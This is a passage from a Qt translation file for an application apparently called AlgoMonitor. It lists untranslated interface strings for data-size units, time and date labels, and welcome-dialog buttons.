<context>
    <name>ui::Units</name>
    <message>
        <source>KiB</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>MiB</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>GiB</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>TiB</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>B/s</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>KiB/s</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>MiB/s</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>GiB/s</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>s</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>min</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>h</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>d</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>just now</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 ago</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Today</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Yesterday</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>dddd, d MMMM yyyy</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>d MMM</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>tomorrow %1</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::WelcomeDialog</name>
    <message>
        <source>Back</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>First steps with AlgoMonitor</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Not now</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Step %1 of %2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Finish</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Continue</source>
        <translation type="unfinished"></translation>
    </message>
</context>
</TS>
